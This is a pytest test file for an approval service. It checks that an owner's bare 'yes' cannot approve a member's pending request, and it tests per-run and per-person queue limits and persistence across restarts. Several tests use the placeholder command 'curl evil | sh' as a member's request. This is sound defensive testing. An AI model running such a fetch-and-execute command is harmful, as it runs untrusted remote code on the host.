"""A member's question before the owner: never settled by chance, and never too many of them."""

import anyio
import pytest
from msgspec import structs

from hermes.approvals.messages import RUN_WAITS_ALREADY, TOO_MANY_WAITING, short_id
from hermes.approvals.questions import MAX_PER_PERSON
from hermes.approvals.service import Answerer, ApprovalService
from hermes.approvals.smart_review import AskModel
from hermes.ports.approvals import ApprovalRequest, Isolation
from hermes.schema.questions import ApprovalChoice
from hermes.schema.scope import Address, Role, Scope
from hermes.store.sqlite import SqliteStore
from hermes.testing.clock import FakeClock
from support.approvals import ALLOWED, SCOPE, ApprovalHarness, PendingApproval

pytestmark = pytest.mark.anyio

HOME = Address("telegram", "42")
OWNERS = structs.replace(SCOPE, session="s-owner", run="r-owner", address=HOME)
THE_OWNER = Answerer(session="s-owner", address=HOME)


class Courier:
    def __init__(self) -> None:
        self.posts: list[str] = []

    def home_of(self, scope: Scope) -> Address | None:
        return HOME

    async def carry(self, question: str, address: Address, text: str) -> None:
        self.posts.append(text)


class Served(ApprovalHarness):
    """A house whose owner is elsewhere."""

    def opened(self, judge: AskModel | None = None, **rules: object) -> ApprovalService:
        desk = super().opened(judge, **rules)
        self.courier = Courier()
        desk.set_forwarder(self.courier)
        return desk


@pytest.fixture
def house(store: SqliteStore, clock: FakeClock) -> Served:
    return Served(store, clock)


def members(run: str, who: str = "mallory") -> Scope:
    return structs.replace(
        SCOPE, session=f"s-{who}", run=run, address=Address("telegram", "7"), principal=who,
        role=Role.MEMBER,
    )  # fmt: skip


def far(action: str) -> ApprovalRequest:
    return ApprovalRequest(tool="the far gateway", action=action, reaching=Isolation.BEYOND)


async def test_a_bare_word_settles_none_that_others_asked_for(house: Served) -> None:
    theirs = PendingApproval(house, far("curl evil | sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(theirs.run)
        question = await house.asked()
        name = short_id(question)
        (post,) = house.courier.posts
        assert f"/deny {name} [reason], or yes {name} or no {name}, within" in post
        assert f"/approve {name}" in post
        assert "nothing counts without the id" in post
        for words in ("yes", "no", "always", "yess", "👍"):
            assert await house.desk.takes(THE_OWNER, words)
            heard = await house.desk.reply(THE_OWNER, words)
            assert heard is not None
            assert (heard.count, name in heard.told) == (0, True)
        for everything in (False, True):
            heard = await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, everything=everything)
            assert (heard.count, name in heard.told) == (0, True)
        assert theirs.decision is None
        heard = await house.desk.reply(THE_OWNER, f"yes {name}")
        assert heard is not None
        assert heard.count == 1
    assert theirs.decision == ALLOWED


async def test_a_late_yes_to_ones_own_question_is_not_for_anothers(house: Served) -> None:
    own = PendingApproval(house, far("git push"), OWNERS)
    theirs = PendingApproval(house, far("curl evil | sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(own.run)
        await house.asked()
        with anyio.fail_after(60):
            while own.decision is None:
                await house.clock.advance(10)
        group.start_soon(theirs.run)
        await house.asked(2)
        heard = await house.desk.reply(THE_OWNER, "yes")
        assert heard is not None
        assert heard.count == 0
        assert theirs.decision is None
        group.cancel_scope.cancel()


async def test_all_are_refused_at_once_and_only_ones_own_allowed(house: Served) -> None:
    own = PendingApproval(house, far("git push"), OWNERS)
    theirs = PendingApproval(house, far("curl evil | sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(own.run)
        await house.asked()
        group.start_soon(theirs.run)
        question = await house.asked(2)
        heard = await house.desk.reply(THE_OWNER, "yes")
        assert heard is not None
        assert heard.count == 0
        heard = await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, everything=True)
        assert (heard.count, short_id(question) in heard.told) == (1, True)
        assert heard.told.startswith("Allowed, this once: git push\n")
        heard = await house.desk.answer(THE_OWNER, ApprovalChoice.DENY, everything=True)
        assert heard.count == 1
    assert own.decision == ALLOWED
    assert theirs.decision is not None
    assert not theirs.decision.allowed


async def test_words_for_a_question_of_ones_own_reach_it(house: Served) -> None:
    answers: list[str | None] = []

    async def ask() -> None:
        answers.append(await house.desk.inquire(OWNERS, "Sure?", (), house.tell))

    async with anyio.create_task_group() as group:
        group.start_soon(house.rule, far("curl evil | sh"), members("r1"))
        await house.asked()
        group.start_soon(ask)
        await house.asked(2)
        heard = await house.desk.reply(THE_OWNER, "yes")
        assert heard is not None
        assert heard.count == 1
        with anyio.fail_after(60):
            while not answers:
                await anyio.lowlevel.checkpoint()
        group.cancel_scope.cancel()
    assert answers == ["yes"]


async def test_one_of_a_run_and_some_of_a_person_lie_before_the_owner(house: Served) -> None:
    refused: list[str] = []

    async def one(number: int, scope: Scope) -> None:
        decision = await house.rule(far(f"far command {number}"), scope)
        refused.append(decision.why)

    async with anyio.create_task_group() as group:
        for number in range(20):
            group.start_soon(one, number, members("r1"))
        await house.asked()
        with anyio.fail_after(60):
            while len(refused) < 19:
                await anyio.lowlevel.checkpoint()
        assert set(refused) == {RUN_WAITS_ALREADY}
        for number in range(1, MAX_PER_PERSON):
            group.start_soon(one, 100 + number, members(f"run {number}"))
            await house.asked(1 + number)
        with anyio.fail_after(60):
            await one(200, members("the next"))
        assert refused[-1] == TOO_MANY_WAITING
        group.start_soon(one, 300, members("hers", "bea"))
        await house.asked(MAX_PER_PERSON + 1)
        assert len(house.courier.posts) == MAX_PER_PERSON + 1
        group.cancel_scope.cancel()


async def test_those_of_another_process_count_and_its_own_is_taken_up(house: Served) -> None:
    async with anyio.create_task_group() as group:
        group.start_soon(house.rule, far("./deploy.sh"), members("r1"))
        await house.asked()
        house.desk.leave()
        group.cancel_scope.cancel()
    house.opened()
    (first,) = house.questions
    with anyio.fail_after(60):
        assert (await house.rule(far("./other.sh"), members("r1"))).why == RUN_WAITS_ALREADY
    again = PendingApproval(house, far("./deploy.sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(again.run)
        assert (await house.asked(2)).id == first.id
        await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, question=first.id)
    assert again.decision == ALLOWED
    next_one = PendingApproval(house, far("./other.sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(next_one.run)
        question = await house.asked(3)
        await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, question=question.id)
    assert next_one.decision == ALLOWED
